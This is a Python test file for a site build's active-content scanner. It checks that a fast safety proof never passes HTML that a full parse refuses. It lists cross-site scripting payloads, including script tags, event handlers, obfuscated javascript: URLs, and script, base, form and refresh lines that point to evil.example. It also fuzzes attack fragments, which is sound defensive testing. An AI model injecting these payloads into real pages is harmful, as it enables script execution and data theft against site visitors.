"""The verify stage's quick proof (active_content.quick_proof) against its full parse (full_scan).

The quick proof is there for speed only: on every page of a real build it proves the page safe
(else the verify stage would be as slow as before), and on no document may it pass what the full
parse refuses. The property test writes tags, attributes and values from the pieces attacks are
made of, planted in a real page, and holds the proof to that.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contested.build.active_content import ThemeAllowList, full_scan, quick_proof, scan_html
from contested.build.engine import engine_template_dirs
from contested.project import Project

PAGE = "actors/alibaba/index.html"
SCALE = float(os.environ.get("CONTESTED_FUZZ_SCALE", "1"))


@pytest.fixture(scope="module")
def allow(built_project: Path) -> ThemeAllowList:
    return ThemeAllowList.from_template_dirs(engine_template_dirs(Project(built_project)))


@pytest.fixture(scope="module")
def site(built_project: Path) -> Path:
    return built_project / "site"


@pytest.fixture(scope="module")
def page_html(site: Path) -> str:
    return (site / PAGE).read_text(encoding="utf-8")


def _plant(html: str, fragment: str) -> str:
    assert "</article>" in html
    return html.replace("</article>", fragment + "</article>", 1)


def test_every_page_of_a_real_build_is_proven_quickly(site: Path, allow: ThemeAllowList) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 20
    not_proven = []
    for path in pages:
        rel, html = path.relative_to(site).as_posix(), path.read_text(encoding="utf-8")
        assert full_scan(html, rel, site, allow) == []
        if not quick_proof(html, rel, site, allow):
            not_proven.append(rel)
    assert not_proven == []


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="application/json">{}</script>',
    '<script type="application/ld+json">not json</script>',
    "<script>alert(1)",  # never closed: runs to the end
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    '<div title="x" onclick="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>",
    '<svg onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a HREF="JavaScript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a title="x=" xlink:href="javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<img src="data:image/svg+xml,x">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img srcset="a.png 1x, javascript:alert(1) 2x">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://example.com"></iframe>',
    "<IFRAME></IFRAME>",
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="p"></form>',
    '<form class="md-search__form" method="post"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=../no-such-actor/">',
    '<p title="x"onclick="alert(1)">x</p>',
    '<p title="<x" onclick="alert(1)">x</p>',
    "<!-- <x --><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("fragment", ATTACKS)
def test_no_attack_is_proven_safe(page_html: str, site: Path, allow: ThemeAllowList, fragment: str) -> None:
    html = _plant(page_html, fragment)
    found = full_scan(html, PAGE, site, allow)
    assert found, "the full parse should refuse this"
    assert not quick_proof(html, PAGE, site, allow)
    assert scan_html(html, PAGE, site, allow) == found  # the findings, with lines, are the full parse's


HARMLESS = [
    '<a href="../../stories/" title="What is alleged: a=b &amp; c">x</a>',
    '<a href="https://example.org/a:b?c=d&amp;e=f">x</a>',
    '<a href="mailto:editors@example.org">x</a>',
    '<p title="x=" class="y">text with "quotes" = and : and javascript: in it</p>',
    '<span data-note=":">x</span>',
    "<!-- a comment -->",
    '<meta http-equiv="refresh" content="0; url=../us-dod/">',
    '<details open><summary>x</summary></details>',
]


@pytest.mark.parametrize("fragment", HARMLESS)
def test_harmless_markup_is_proven_quickly(page_html: str, site: Path, allow: ThemeAllowList,
                                           fragment: str) -> None:
    html = _plant(page_html, fragment)
    assert full_scan(html, PAGE, site, allow) == []
    assert quick_proof(html, PAGE, site, allow)


_NAMES = st.sampled_from(["a", "A", "div", "img", "svg", "meta", "META", "form", "script", "iframe",
                          "base", "embed", "input", "button", "style", "title", "x-y"])
_ATTR_NAMES = st.sampled_from(["href", "HREF", "xlink:href", "src", "srcset", "onclick", "ONLOAD",
                               "on", "title", "class", "http-equiv", "content", "action", "method",
                               "formaction", "data", "type", "id", "data-x", "x.href"])
_VALUE_PIECES = st.sampled_from(["javascript:", "JaVaScRiPt:", " java\tscript:", "&#106;avascript:",
                                 "javascript&colon;", "&#58;", "data:", "vbscript:", "https://x/",
                                 "../", "alert(1)", "0; url=../us-dod/", "0;url=//evil/", "refresh",
                                 "md-search__form", "application/json", "__config", "=", ":", "&",
                                 "&amp;", " ", "<", ">", "'", '"', "x", "-->", "</script>"])
_SEPARATORS = st.sampled_from([" ", "  ", "\t", "\n", "\x0c", "\x0b", "/", "", " / "])
_QUOTES = st.sampled_from(['"', "'", ""])
_TEXT = st.sampled_from(["x", " ", "on", "=", '"', "'", "&lt;", ":", "-->", "<!--", "</", "<", ">",
                         "alert(1)", "javascript:", "\n"])


@st.composite
def _tag(draw: st.DrawFn) -> str:
    parts = ["<" + draw(_NAMES)]
    for _ in range(draw(st.integers(0, 3))):
        name, quote = draw(_ATTR_NAMES), draw(_QUOTES)
        value = "".join(draw(st.lists(_VALUE_PIECES, max_size=4)))
        parts.append(draw(_SEPARATORS) + name
                     + (f"={quote}{value}{quote}" if draw(st.booleans()) else ""))
    close = draw(st.sampled_from([">", "/>", " >", ""]))
    body = "".join(draw(st.lists(_TEXT, max_size=3)))
    end = draw(st.sampled_from(["", "</a>", "</script>", "</style>", "</div>"]))
    return "".join(parts) + close + body + end


@settings(max_examples=int(400 * SCALE), deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(st.lists(_tag(), min_size=1, max_size=4))
def test_the_quick_proof_never_passes_what_the_full_parse_refuses(page_html: str, site: Path,
                                                                  allow: ThemeAllowList,
                                                                  tags: list[str]) -> None:
    html = _plant(page_html, "".join(tags))
    if quick_proof(html, PAGE, site, allow):
        assert full_scan(html, PAGE, site, allow) == []
